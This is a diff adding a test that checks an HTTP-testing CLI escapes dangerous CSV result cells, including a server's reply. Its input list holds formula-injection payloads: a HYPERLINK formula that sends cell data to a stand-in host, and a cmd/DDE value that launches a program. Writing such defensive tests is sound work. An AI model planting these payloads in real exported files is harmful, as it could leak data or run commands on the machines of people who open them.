@@ -204,6 +204,21 @@ describe('--dataset', () => {
     expect((await runCli([...base, '--results', 'r.csv', '--columns', 'row,,reply'], { cwd: dir })).exitCode).toBe(1)
   })
 
+  it('neutralises CSV cells a spreadsheet would run as a formula, the server\'s reply included', async () => {
+    server = await startServer({ 'POST /ask': (_req, res, body) => json(res, { choices: [{ message: { content: JSON.parse(body.toString()).reply } }] }) })
+    const dir = tempDir('dataset')
+    const hostile = ['=HYPERLINK("http://x.test/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-3', '+1.5e3', 'plain']
+    writeFileSync(join(dir, 'rows.jsonl'), hostile.map((reply) => JSON.stringify({ reply })).join('\n'))
+    writeFileSync(join(dir, 'r.http'), 'POST {{base}}/ask\nContent-Type: application/json\n\n{"reply": {{json reply}}}\n')
+    const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--parallel', '1', '--var', `base=${server.url}`, '--results', 'r.csv', '--columns', 'values.reply,reply'], { cwd: dir })
+    expect(result.exitCode, result.stderr).toBe(0)
+    const { parse } = await import('csv-parse/sync')
+    const rows = (parse(readFileSync(join(dir, 'r.csv'), 'utf8')) as string[][]).slice(1)
+    const expected = hostile.map((cell) => (['-3', '+1.5e3', 'plain'].includes(cell) ? cell : `'${cell}`))
+    expect(rows.map((r) => r[0]).sort()).toEqual([...expected].sort())
+    expect(rows.map((r) => r[1]).sort()).toEqual([...expected].sort())
+  })
+
   it('puts the row summary in the JSON and Markdown reports and names JUnit cases by --row-name', async () => {
     const dir = tempDir('dataset')
     const result = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--rows', '1-3', '--row-name', 'question',
